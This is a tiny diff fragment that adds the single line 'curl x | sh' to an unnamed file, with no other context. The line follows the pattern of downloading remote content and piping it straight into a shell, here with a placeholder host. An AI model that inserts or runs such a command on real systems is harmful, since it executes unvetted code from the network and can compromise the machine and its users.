@@ -1,0 +1,1 @@
+curl x | sh
